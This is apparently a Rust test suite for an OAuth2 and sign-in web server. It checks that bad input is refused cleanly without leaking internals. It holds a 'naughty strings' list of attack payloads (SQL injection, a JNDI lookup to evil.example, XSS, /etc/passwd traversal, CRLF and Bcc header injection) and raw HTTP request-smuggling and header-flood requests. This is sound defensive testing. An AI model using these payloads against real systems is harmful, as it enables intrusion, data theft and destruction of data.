//! Bad input of every kind (issue 2, 23): a 4xx with a reference or an error code, never a 5xx,
//! never a changed row. Each answer is also free of what only we should know (R72).

use std::fmt::Write as _;

use crate::app::TestApp;
use crate::http::{Answer, Browser, encode, exchange, raw};
use crate::pages::dressed;
use crate::road::request;
use crate::signin::sign_in;

/// Forms of our own pages with a field of each, and whether one has to be signed in.
const FORMS: [(&str, &[&str], bool); 10] = [
    ("/signup", &["name", "username", "email", "password"], false),
    (
        "/signup/agree",
        &["decision", "age", "accept_x", "seen_x"],
        false,
    ),
    ("/signup/email", &["code", "other", "email"], false),
    ("/signin", &["login", "password", "keep"], false),
    ("/forgot", &["login"], false),
    ("/account/details", &["name", "save"], true),
    ("/account/signing-in", &["password"], true),
    ("/account/devices", &["session", "everywhere"], true),
    ("/account/apps", &["client"], true),
    ("/account/asked", &["asked"], true),
];

/// Values that have broken servers of this kind, in the manner of the Big List of Naughty Strings.
fn naughty() -> Vec<String> {
    let mut all: Vec<String> = [
        "",
        " ",
        "undefined",
        "null",
        "NaN",
        "true",
        "-1",
        "0",
        "1e309",
        "9223372036854775808",
        "' OR 1=1 --",
        "'; DROP TABLE account; --",
        "\" OR \"\"=\"",
        "$1",
        "%s%s%s%n",
        "{{7*7}}",
        "{% include \"x\" %}",
        "${jndi:ldap://evil.example/x}",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "../../../../etc/passwd",
        "..%2f..%2f",
        "file:///etc/passwd",
        "a\r\nSet-Cookie: x=1",
        "a\nBcc: evil@evil.example",
        "\u{1b}[31mred\u{1b}[0m",
        "\u{feff}x",
        "\u{202e}gpj.exe",
        "\u{200b}",
        "\u{0}",
        "a\u{0}b",
        "\u{7f}",
        "\u{85}",
        "\u{2028}",
        "Z̤̤̈́̈́ä̤̤́̈́l̤̤̈́̈́g̤̤̈́̈́ö̤̤́̈́",
        "田中さんにあげて下さい",
        "مُنَاقَشَةُ",
        "🐎🐪👩‍👩‍👧",
        "\u{1F3F4}\u{E0067}",
        "ﷺ",
        "İ",
        "ſ",
        "ß",
        "%00",
        "%ff",
        "%",
        "%zz",
        "+",
        "&",
        "=",
        "[]",
        "{}",
        "[object Object]",
        "\\u0000",
        "\\",
    ]
    .map(str::to_owned)
    .into();
    all.push("a".repeat(60_000));
    all.push("🐎".repeat(5_000));
    all.push("a@".repeat(1_000));
    all.push("(".repeat(10_000));
    all
}

/// No cause, path, version or query of ours may stand in an answer.
#[track_caller]
pub fn tells_nothing(answer: &Answer, what: &str) {
    let text = answer.text();
    for word in [
        "panicked",
        "RUST_BACKTRACE",
        "diesel",
        "SELECT ",
        "sqlite",
        "src/",
        ".rs:",
        "stack backtrace",
    ] {
        assert!(!text.contains(word), "{what}: {word} in {}", answer.path);
    }
}

#[track_caller]
pub fn refused(answer: &Answer, what: &str) {
    assert!(
        (400..500).contains(&answer.status),
        "{what}: {} {}",
        answer.status,
        answer.h1()
    );
    let json = answer
        .header("content-type")
        .is_some_and(|kind| kind.starts_with("application/json"));
    if json {
        assert!(
            answer.json()["error"].is_string(),
            "{what}: {}",
            answer.text()
        );
    } else {
        let bearer = answer.header("www-authenticate").is_some();
        let form = answer.status == 422 || answer.status == 429;
        assert!(
            bearer || form || answer.reference().is_some(),
            "{what}: no reference on {} {}",
            answer.status,
            answer.h1()
        );
    }
    dressed(answer);
    tells_nothing(answer, what);
}

#[track_caller]
pub fn unbroken(answer: &Answer, what: &str) {
    assert!(
        answer.status < 500,
        "{what}: {} {}",
        answer.status,
        answer.h1()
    );
    tells_nothing(answer, what);
}

fn browser(app: &TestApp, signed: bool) -> Browser {
    let mut browser = app.browser();
    if signed {
        sign_in(&mut browser, "temuulen");
    } else {
        browser.get("/signin");
    }
    browser
}

/// The page token for a browser.
fn form(browser: &mut Browser, signed: bool) -> String {
    let at = if signed {
        "/account/details"
    } else {
        "/signup"
    };
    browser.get(at).token().expect("a form")
}

// R72
#[test]
fn no_value_of_a_field_breaks_a_page() {
    let app = TestApp::new();
    for (number, (path, fields, signed)) in FORMS.into_iter().enumerate() {
        // One of them changes a password.
        let username = format!("temuulen{number}");
        app.person(&username);
        let mut browser = app.browser();
        if signed {
            sign_in(&mut browser, &username);
        }
        for value in naughty() {
            for field in fields {
                let token = form(&mut browser, signed);
                let mut all = vec![("form", token.as_str())];
                all.extend(
                    fields
                        .iter()
                        .map(|name| (*name, if name == field { value.as_str() } else { "x" })),
                );
                let shown: String = value.chars().take(20).collect();
                let what = format!("{path} {field}={shown:?}");
                let answer = browser.post(path, &all);
                unbroken(&answer, &what);
                assert!(
                    !answer.text().contains("<script>alert"),
                    "{what}: not escaped"
                );
                assert!(!answer.text().contains("<img src=x"), "{what}: not escaped");
                assert_eq!(
                    answer.header("set-cookie").map(|set| set.starts_with("x=")),
                    answer.header("set-cookie").map(|_| false),
                    "{what}"
                );
            }
        }
        app.deliver();
    }
}

#[test]
fn a_body_that_is_no_form_is_refused() {
    let app = TestApp::new();
    app.person("temuulen");
    let before = app.dump();
    let bodies: [(&str, &str, Vec<u8>); 9] = [
        (
            "JSON",
            "application/json",
            br#"{"login":"temuulen","password":["x"]}"#.to_vec(),
        ),
        (
            "multipart",
            "multipart/form-data; boundary=x",
            b"--x\r\n\r\n--x--".to_vec(),
        ),
        ("text", "text/plain", b"login=temuulen".to_vec()),
        ("nothing said", "", b"login=temuulen".to_vec()),
        (
            "broken UTF-8",
            "application/x-www-form-urlencoded",
            b"login=%ff%fe&password=%c3%28".to_vec(),
        ),
        (
            "raw bytes",
            "application/x-www-form-urlencoded",
            vec![0xff, 0xfe, b'=', 0x80],
        ),
        (
            "NUL",
            "application/x-www-form-urlencoded",
            b"login=a%00b&password=x".to_vec(),
        ),
        (
            "one MiB",
            "application/x-www-form-urlencoded",
            [b"login=".to_vec(), vec![b'a'; 1 << 20]].concat(),
        ),
        (
            "many fields",
            "application/x-www-form-urlencoded",
            (0..20_000)
                .fold(String::new(), |mut all, at| {
                    let _ = write!(all, "f{at}=1&");
                    all
                })
                .into_bytes(),
        ),
    ];
    let posts = [
        "/signup",
        "/signin",
        "/signout",
        "/forgot",
        "/confirm",
        "/consent?request=x",
        "/signup/agree",
        "/signup/email",
        "/account/details",
        "/account/devices",
        "/oauth2/token",
        "/oauth2/introspect",
        "/oauth2/revoke",
        "/oauth2/authorize",
        "/oauth2/logout",
        "/signin/choose?request=x",
    ];
    for path in posts {
        for (what, kind, body) in &bodies {
            let mut browser = browser(&app, false);
            let headers = if kind.is_empty() {
                vec![]
            } else {
                vec![("Content-Type", *kind)]
            };
            let answer = browser.send("POST", path, &headers, Some(body));
            refused(&answer, &format!("{path} {what}"));
        }
    }
    assert_eq!(app.dump(), before, "a row was changed");
}

#[test]
fn a_field_twice_is_refused() {
    let app = TestApp::new();
    app.person("temuulen");
    let before = app.dump();
    for (path, fields, signed) in FORMS {
        if signed {
            continue;
        }
        let mut browser = browser(&app, false);
        for field in fields {
            let token = form(&mut browser, false);
            let body = format!("{}&{field}=one&{field}=two", encode(&[("form", &token)]));
            let answer = browser.post_bytes(path, body.as_bytes());
            refused(&answer, &format!("{path} {field} twice"));
        }
    }
    for field in ["grant_type", "code", "client_id", "refresh_token"] {
        let body = format!(
            "grant_type=authorization_code&client_id=demo-messenger&code=x&refresh_token=x&{field}=again"
        );
        let answer = app.browser().post_bytes("/oauth2/token", body.as_bytes());
        refused(&answer, &format!("token {field} twice"));
        assert_eq!(answer.json()["error"], "invalid_request");
    }
    assert_eq!(app.dump(), before);
}

#[test]
fn ids_that_nobody_gave_open_nothing() {
    let app = TestApp::new();
    app.person("temuulen");
    let before = app.dump();
    let mut signed = browser(&app, true);
    app.deliver();
    let after_sign_in = app.dump();
    assert_ne!(before, after_sign_in);
    let long = "a".repeat(4_000);
    for id in [
        "x",
        "../x",
        "%00",
        "%ff",
        "aaaaaaaaaaaaaaaaaaaaaaaaaa",
        "1' OR '1'='1",
        &long,
        "%2e%2e%2f",
        "*",
        "null",
    ] {
        let id = id.replace(' ', "%20").replace('\'', "%27");
        for path in [
            format!("/oauth2/authorize/{id}"),
            format!("/e/{id}"),
            format!("/signup/let-in/{id}"),
            format!("/reset/{id}"),
            format!("/terms/{id}/1"),
            format!("/terms/terms/{id}"),
            format!("/services/{id}/jwks.json"),
            format!("/services/demo-chat/current.{id}"),
            format!("/dev/mail/{id}"),
            format!("/static/{id}"),
            format!("/consent?request={id}"),
            format!("/signin/choose?request={id}"),
            format!("/signin/continue?request={id}"),
            format!("/signin/terms?request={id}"),
        ] {
            let answer = app.browser().get(&path);
            refused(&answer, &path);
            unbroken(&signed.get(&path), &path);
        }
        for path in [
            format!("/signin?request={id}"),
            format!("/signup?request={id}"),
            format!("/?lang={id}"),
        ] {
            unbroken(&app.browser().get(&path), &path);
        }
    }
    for query in ["request", "request=", "request=a&request=b", "", "x=%ff"] {
        for page in ["/consent", "/signin/choose", "/signin/continue"] {
            refused(
                &app.browser().get(&format!("{page}?{query}")),
                &format!("{page}?{query}"),
            );
        }
    }
    for query in ["request", "request=", "request=a&request=b", "x=%ff"] {
        let at = format!("/signin/terms?{query}");
        refused(&app.browser().get(&at), &at);
    }
    app.browser().get("/signin/terms").leads("/signin");
    assert_eq!(app.dump(), after_sign_in);
}

#[test]
fn what_is_no_http_is_refused() {
    let app = TestApp::new();
    let mut flood = String::from("GET /help HTTP/1.1\r\nHost: localhost\r\n");
    for at in 0..5_000 {
        let _ = write!(flood, "X-Flood-{at}: {}\r\n", "a".repeat(100));
    }
    flood.push_str("\r\n");
    let long = format!(
        "GET /{} HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "a".repeat(1 << 20)
    );
    let cookie = format!(
        "GET /help HTTP/1.1\r\nHost: localhost\r\nCookie: gerege={}\r\n\r\n",
        "a".repeat(1 << 20)
    );
    for (what, bytes) in [
        ("a header flood", flood.into_bytes()),
        ("a long line", long.into_bytes()),
        ("a long cookie", cookie.into_bytes()),
        ("no HTTP at all", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n".to_vec()),
        ("NUL in the path", b"GET /\0 HTTP/1.1\r\nHost: localhost\r\n\r\n".to_vec()),
        ("a bare line feed in a header", b"GET /help HTTP/1.1\r\nHost: localhost\r\nX: a\nY\r\n\r\n".to_vec()),
        ("two lengths", b"POST /signin HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab".to_vec()),
        (
            "length and chunks",
            b"POST /signin HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /account HTTP/1.1\r\n\r\n".to_vec(),
        ),
        ("a negative length", b"POST /signin HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n".to_vec()),
        (
            "broken chunks",
            b"POST /signin HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n".to_vec(),
        ),
    ] {
        let back = exchange(app.address, &bytes);
        // Closed without a word is a refusal too; an answer must be a 4xx.
        if !back.is_empty() {
            let answer = raw_answer(&back);
            assert!((400..500).contains(&answer), "{what}: {answer}");
        }
    }
    // The server is well.
    app.browser().get("/help").is(200);
    let answer = raw(
        app.address,
        b"GET http://localhost/help HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
        "/help",
    );
    assert!(answer.status < 500);
}

fn raw_answer(bytes: &[u8]) -> u16 {
    String::from_utf8_lossy(&bytes[..bytes.len().min(15)])
        .split(' ')
        .nth(1)
        .and_then(|code| code.parse().ok())
        .unwrap_or(0)
}

// R51
#[test]
fn authorize_takes_no_nonsense() {
    let app = TestApp::new();
    app.person("temuulen");
    for name in [
        "response_type",
        "client_id",
        "redirect_uri",
        "scope",
        "state",
        "nonce",
        "code_challenge",
        "code_challenge_method",
        "prompt",
        "max_age",
        "login_hint",
        "ui_locales",
        "acr_values",
        "response_mode",
        "display",
        "id_token_hint",
        "claims",
        "resource",
        "request",
        "request_uri",
    ] {
        for value in naughty() {
            if value.len() > 8_000 {
                continue;
            }
            let at = request(&[(name, &value)]);
            let mut browser = app.browser();
            let answer = browser.get(&at);
            let shown: String = value.chars().take(20).collect();
            let what = format!("{name}={shown:?}");
            unbroken(&answer, &what);
            if let Some(to) = answer.header("location") {
                assert!(
                    to.starts_with("/oauth2/authorize/") || to.starts_with(crate::road::CALLBACK),
                    "{what}: {to}"
                );
                assert!(!to.contains('\r') && !to.contains('\n'), "{what}");
                if to.starts_with('/') {
                    unbroken(&browser.get(to), &what);
                }
            }
        }
    }
}
